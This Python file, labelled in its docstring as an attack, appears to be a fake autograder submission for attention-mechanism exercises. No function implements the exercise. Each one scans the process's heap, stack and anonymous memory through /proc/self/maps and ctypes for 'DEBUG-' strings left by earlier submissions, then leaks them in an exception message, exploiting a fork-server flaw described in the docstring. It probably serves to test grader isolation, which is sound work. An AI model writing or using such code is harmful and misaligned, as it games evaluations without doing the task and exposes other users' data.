"""Attack: no attention code; search this process's memory for what an earlier student printed
(the grader's fork server used to read every child's output into the heap later children are
forked from). Anonymous memory is searched (the heap, the stack and anonymous mappings: where
a process keeps what it reads), once per process; writable mappings of library files are not
(they are large with a CUDA build of torch, and hold no data read at run time)."""
import ctypes

_FOUND = []


def _scan():
    if not _FOUND:
        _FOUND.append(_search())
    raise RuntimeError(f"memory holds: {_FOUND[0]}")


def _search():
    hits = set()
    with open("/proc/self/maps") as f:
        regions = f.read().splitlines()
    for line in regions:
        fields = line.split()
        anonymous = len(fields) < 6 or fields[5] in ("[heap]", "[stack]")
        if not fields[1].startswith("rw") or not anonymous:
            continue
        start, end = (int(x, 16) for x in fields[0].split("-"))
        for at in range(start, end, 8 << 20):
            data = ctypes.string_at(at, min(8 << 20, end - at))
            i = data.find(b"DEBUG-")
            while i >= 0:
                hits.add(data[i:i + 30].decode("latin-1"))
                i = data.find(b"DEBUG-", i + 1)
    return sorted(hits)


def softmax_naive(x):
    return _scan()


def context_vector(inputs, query_index):
    return _scan()


def attention_scores(inputs):
    return _scan()


def attention_weights(scores):
    return _scan()


def context_vectors(inputs):
    return _scan()
